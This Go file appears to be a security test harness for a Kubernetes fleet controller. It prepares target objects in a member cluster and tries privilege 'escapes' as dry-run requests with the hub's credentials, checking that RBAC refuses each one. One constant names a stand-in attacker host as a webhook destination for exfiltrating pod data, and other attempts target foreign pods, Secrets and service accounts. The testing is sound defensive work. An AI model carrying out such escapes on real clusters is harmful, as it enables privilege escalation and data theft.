package fleet

import (
	"context"
	"fmt"
	"strings"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	schedulingv1 "k8s.io/api/scheduling/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// An Escape is something that whoever has the hub's token in a member might try, and must not be able to do.
type Escape struct {
	// Name says what is tried.
	Name string
	// ByRBAC: only RBAC refuses it; where the account were cluster-admin by mistake, it would work.
	ByRBAC bool

	try func(context.Context, *prisoner) error
}

// prisoner is the hub's account in a member, with what it tries its escapes on.
type prisoner struct {
	kubernetes.Interface

	config    *rest.Config
	namespace string // a tenant's
}

// dry has a request tried and not done: admission and authorization are the same.
var dry = []string{metav1.DryRunAll}

const (
	foreignPod     = "foreign"
	systemPod      = "system"
	gatedPod       = "gated"    // by somebody else
	foreignAccount = "powerful" // pods could run as this
	preempting     = "preempts" // a priority class
	secretName     = "unnamed"  // no WebApp names it
	elsewhere      = "https://attacker.example/webhook/v1/members/x/y/pods"
	escapeTargets  = "escape-targets"
	abandoned      = "abandoned" // a WebApp that is not there, whose Deployment is
	hubEvent       = "escaped"   // an Event of the hub
)

// PrepareEscapes makes what escapes are tried on: pods, a Secret, a WebApp's Deployment, an Event of the hub, and another's webhook
// configuration. It may be called again.
func (m *Member) PrepareEscapes(ctx context.Context) error {
	ignore, none := admissionregistrationv1.Ignore, admissionregistrationv1.SideEffectClassNone
	gated := pausePod(escapeTargets, gatedPod)
	gated.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "example.com/quota"}}
	part := partDeployment(abandoned)
	part.Namespace, part.Finalizers, part.Spec.Replicas = escapeTargets, []string{"example.com/kept"}, ptr.To[int32](0) // from the garbage collector
	for _, object := range []client.Object{
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: escapeTargets}},
		// Pods need these; a member without controllers has none.
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: "default"}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceSystem, Name: "default"}},
		&schedulingv1.PriorityClass{ObjectMeta: metav1.ObjectMeta{Name: preempting}, Value: 1_000_000},
		&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: escapeTargets}, Spec: corev1.NodeSpec{Unschedulable: true}},
		pausePod(escapeTargets, foreignPod), pausePod(metav1.NamespaceSystem, systemPod), gated,
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: secretName}, StringData: map[string]string{"password": "canary"}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: foreignAccount}},
		foreignDeployment(escapeTargets, foreignPod), foreignDeployment(metav1.NamespaceSystem, systemPod), part,
		eventOf("plimsoll/escapes", hubEvent),
		&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "others"}, Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name: "others.example.com", FailurePolicy: &ignore, SideEffects: &none, AdmissionReviewVersions: []string{"v1"},
			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://127.0.0.1:1/")},
		}}},
	} {
		if err := client.IgnoreAlreadyExists(m.Client().Create(ctx, object)); err != nil {
			return fmt.Errorf("member %s: make %T %s: %w", m.Name, object, object.GetName(), err)
		}
	}
	return nil
}

func pausePod(namespace, name string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: map[string]string{"app": name, "pod-template-hash": "abc"}},
		Spec:       corev1.PodSpec{AutomountServiceAccountToken: ptr.To(false), Containers: []corev1.Container{{Name: "main", Image: "pause:1"}}},
	}
}

// foreignDeployment is one that no WebApp has, without pods.
func foreignDeployment(namespace, name string) *appsv1.Deployment {
	labels := map[string]string{"app": name}
	return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name}, Spec: appsv1.DeploymentSpec{
		Replicas: ptr.To[int32](0), Selector: &metav1.LabelSelector{MatchLabels: labels},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: pausePod("", "").Spec},
	}}
}

// TryEscapes tries all escapes with a kubeconfig of the hub, and returns what became of each: nil means that it worked. Nothing is
// changed. A hub must have written before where it is asked; see [Member.AsksHub].
func TryEscapes(ctx context.Context, kubeconfig []byte, escapes []Escape) (map[string]error, error) {
	config, err := clientcmd.RESTConfigFromKubeConfig(kubeconfig)
	if err != nil {
		return nil, err
	}
	config.QPS = -1
	clients, err := kubernetes.NewForConfig(config)
	if err != nil {
		return nil, err
	}
	p := &prisoner{Interface: clients, config: config, namespace: escapeTargets}
	became := map[string]error{}
	for _, escape := range escapes {
		became[escape.Name] = escape.try(ctx, p)
	}
	return became, nil
}

// Refused reports whether an escape was refused for what it is, and not for some mistake in the attempt.
func Refused(err error) bool {
	return apierrors.IsForbidden(err) || err != nil && strings.Contains(err.Error(), "forbidden")
}

// Escapes are those that are known.
func Escapes() []Escape {
	all := append(podEscapes(), webhookEscapes()...)
	return append(append(append(all, probeEscapes()...), rightsEscapes()...), workloadEscapes()...)
}

// OwnWork is what some escapes are without what makes them one: if it is not done, they are refused for something else.
func OwnWork() []Escape {
	return []Escape{
		{Name: "release a pod", try: patching(escapeTargets, foreignPod, release)},
		{Name: "create a probe", try: creatingProbe(func(*corev1.Pod) {})},
		{Name: "change the definition of WebApps", try: changingDefinition(types.MergePatchType, `{"metadata":{"annotations":{"escaped":"x"}}}`)},
		{Name: "create the Deployment of a WebApp", try: creatingDeployment(escapeTargets, func(*appsv1.Deployment) {})},
		{Name: "change the Deployment of a WebApp", try: changingDeployment(`{"annotations":{"escaped":"x"}}`)},
		{Name: "delete the Deployment of a WebApp", try: deletingDeployment(metav1.DeleteOptions{PropagationPolicy: ptr.To(metav1.DeletePropagationBackground)})},
		{Name: "create the Service of a WebApp", try: creatingService(func(*corev1.Service) {})},
		{Name: "create the PodDisruptionBudget of a WebApp", try: creatingBudget(func(*policyv1.PodDisruptionBudget) {})},
		{Name: "create the HorizontalPodAutoscaler of a WebApp", try: creatingAutoscaler(func(*autoscalingv2.HorizontalPodAutoscaler) {})},
		{Name: "create the service account of a WebApp", try: func(ctx context.Context, p *prisoner) error {
			_, err := p.CoreV1().ServiceAccounts(escapeTargets).Create(ctx, &corev1.ServiceAccount{ObjectMeta: ofWebApp(workloadName)}, metav1.CreateOptions{DryRun: dry})
			return err
		}},
		{Name: "write an Event", try: creatingEvent(func(*corev1.Event) {})},
		{Name: "count an Event again", try: changingEvent(`{"count":2}`)},
	}
}

// patch is a JSON merge patch, tried.
func patch(body string) (types.PatchType, []byte, metav1.PatchOptions) {
	return types.MergePatchType, []byte(body), metav1.PatchOptions{DryRun: dry}
}

// strategic is a strategic merge patch, tried.
func strategic(body string) (types.PatchType, []byte, metav1.PatchOptions) {
	return types.StrategicMergePatchType, []byte(body), metav1.PatchOptions{DryRun: dry}
}
